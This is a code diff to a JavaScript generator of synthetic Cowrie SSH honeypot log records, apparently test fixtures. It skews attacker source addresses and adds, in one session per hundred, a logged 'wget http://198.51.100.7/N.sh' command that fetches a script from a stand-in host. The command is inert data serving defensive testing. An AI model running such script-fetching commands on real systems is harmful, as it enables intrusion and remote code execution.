@@ -3,11 +3,23 @@ import { KEY } from './server-process.mjs'
 // Synthetic attackers with the shape of real ones: short sessions, many from few addresses, mostly logins.
 const START = Date.now() - 3_600_000
 
-/** The n-th Cowrie record of an endless log; ten make a session. Every n gives another event. */
-export function record(n) {
+/** The address of a session; without a number of addresses, one of 2,048. */
+function addressOf(session, addresses) {
+  if (addresses === undefined) return `10.${(session * 7) % 16}.${(session * 13) % 128}.1`
+  // Half of the sessions are of a hundredth of the addresses, as attackers are.
+  const of = session % 2 === 0 ? addresses : Math.ceil(addresses / 100)
+  const n = (session * 2_654_435_761) % of
+  return `11.${n >> 16}.${(n >> 8) & 255}.${n & 255}`
+}
+
+/**
+ * The n-th Cowrie record of an endless log; ten make a session. Every n gives another event.
+ * @param addresses how many there are in all.
+ */
+export function record(n, addresses) {
   const session = Math.floor(n / 10)
   const step = n % 10
-  const ip = `10.${(session * 7) % 16}.${(session * 13) % 128}.1`
+  const ip = addressOf(session, addresses)
   const timestamp = new Date(START + (n % 3_600_000))
     .toISOString()
     .replace('Z', `${String(n % 1000).padStart(3, '0')}Z`)
@@ -15,6 +27,9 @@ export function record(n) {
   if (step === 0) {
     return `{"eventid":"cowrie.session.connect","src_port":${20_000 + (n % 40_000)},"dst_ip":"192.0.2.1","dst_port":22,"message":"New connection: ${ip} [session: ${session}]",${common}}`
   }
+  // A session in a hundred fetches something.
+  if (step === 8 && session % 100 === 0)
+    return `{"eventid":"cowrie.command.input","input":"wget http://198.51.100.7/${session % 50}.sh","message":"CMD: wget http://198.51.100.7/${session % 50}.sh",${common}}`
   if (step === 7)
     return `{"eventid":"cowrie.command.input","input":"uname -s -v -n -r -m","message":"CMD: uname -s -v -n -r -m",${common}}`
   if (step === 9)
@@ -23,9 +38,9 @@ export function record(n) {
 }
 
 /** `count` records from the n-th on, as NDJSON. */
-export function lines(n, count) {
+export function lines(n, count, addresses) {
   let text = ''
-  for (let at = n; at < n + count; at += 1) text += `${record(at)}\n`
+  for (let at = n; at < n + count; at += 1) text += `${record(at, addresses)}\n`
   return text
 }
 
